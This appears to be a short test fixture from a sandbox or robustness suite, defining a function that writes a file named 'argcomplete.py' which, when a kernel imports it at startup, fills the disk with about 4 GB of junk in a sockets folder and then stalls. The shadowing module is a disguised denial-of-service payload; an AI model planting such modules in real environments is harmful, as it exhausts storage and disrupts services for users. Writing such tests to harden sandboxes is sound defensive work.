# Brings a module that the kernel looks for while it starts, which fills the disk through the folder of its sockets. Harms: disk.
# %% layout
def folder(path):
    (path / "argcomplete.py").write_text("""
for number in range(8):
    with open(f"/scratch/sockets/x{number}", "wb") as file:
        for _ in range(500):
            file.write(bytes(1 << 20))
import time; time.sleep(100)
""")
